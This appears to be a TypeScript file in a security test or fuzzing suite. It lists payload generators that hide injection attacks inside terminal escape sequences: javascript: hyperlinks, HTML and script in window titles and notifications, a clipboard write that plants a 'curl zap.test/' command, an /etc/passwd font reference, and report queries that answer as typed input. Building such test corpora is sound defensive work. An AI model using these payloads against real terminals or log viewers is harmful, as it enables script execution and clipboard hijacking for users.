import { enemy, type Recipe, zap } from "./payload.ts";

const esc = "\u001b";
const bell = "\u0007";

/** Sequences that terminals execute: links, clipboard, titles, reports that answer as typed input; with HTML inside. */
export const terminals: readonly Recipe[] = [
  (mark) => `${esc}]8;;javascript:${zap(mark)}${bell}${mark}${esc}]8;;${bell}`,
  (mark) => `${esc}]8;;javascript:${zap(mark)}${esc}\\${mark}${esc}]8;;${esc}\\`,
  (mark) => `${esc}]8;;${enemy(mark)}${bell}${mark}${esc}]8;;${bell}`,
  (mark) => `${esc}]8;id="onclick=${zap(mark)};x${bell}${mark}${esc}]8;;${bell}`,
  (mark) => `${esc}]52;c;${btoa(`curl zap.test/${mark}`)}${bell}${mark}`,
  (mark) => `${esc}]52;c;?${bell}${mark}`,
  (mark) => `${esc}]0;<img src=x onerror=${zap(mark)}>${bell}${mark}`,
  (mark) => `${esc}]2;${mark}</title><script>${zap(mark)}</script>${bell}${mark}`,
  (mark) => `${esc}]1337;File=inline=1:${btoa(mark)}${bell}${mark}`,
  (mark) => `${esc}]1337;OpenURL=${enemy(mark)}${bell}${mark}`,
  (mark) => `${esc}]9;<img src=x onerror=${zap(mark)}>${bell}${mark}`,
  (mark) => `${esc}]777;notify;${mark};<svg onload=${zap(mark)}>${bell}${mark}`,
  (mark) => `${esc}]50;/etc/passwd${bell}${mark}`,
  (mark) => `${esc}]4;0;url(${enemy(mark)})${bell}${mark}`,
  (mark) => `${esc}[31m<img src=x onerror=${zap(mark)}>${esc}[0m`,
  (mark) => `${esc}[38;2;1;2;"onmouseover=${zap(mark)}m${mark}`,
  (mark) => `${esc}[38;2;999;-1;1e9m${mark}<svg onload=${zap(mark)}>`,
  (mark) => `${esc}[38;5;url(${enemy(mark)})m${mark}`,
  (mark) => `${esc}[48:2::1:2:3m<b onclick=${zap(mark)}>${mark}</b>${esc}[m`,
  (mark) => `<img src=x ${esc}[1monerror=${zap(mark)}${esc}[0m>`,
  (mark) => `<scr${esc}[0mipt>${zap(mark)}</scr${esc}[0mipt>`,
  (mark) => `<img src=x one\brror=${zap(mark)}>`,
  (mark) => `safe text\r<img src=x onerror=${zap(mark)}>`,
  (mark) => `${esc}P<img src=x onerror=${zap(mark)}>${esc}\\${mark}`,
  (mark) => `${esc}_<img src=x onerror=${zap(mark)}>${esc}\\${mark}`,
  (mark) => `${esc}^<img src=x onerror=${zap(mark)}>${esc}\\${mark}`,
  (mark) => `${esc}X<img src=x onerror=${zap(mark)}>${esc}\\${mark}`,
  (mark) => `\u009d8;;javascript:${zap(mark)}\u009c${mark}`,
  (mark) => `\u009b31m<img src=x onerror=${zap(mark)}>`,
  (mark) => `${esc}[2J${esc}[H${mark}<script>${zap(mark)}</script>`,
  (mark) => `${esc}[6n${esc}[c${esc}[21t${mark}`,
  (mark) => `${esc}[?1049h${esc}[?1000h${mark}<svg onload=${zap(mark)}>`,
  (mark) => `${esc}c${esc}#8${mark}<svg onload=${zap(mark)}>`,
  (mark) => `${mark}${esc}]8;;javascript:${zap(mark)}`,
];
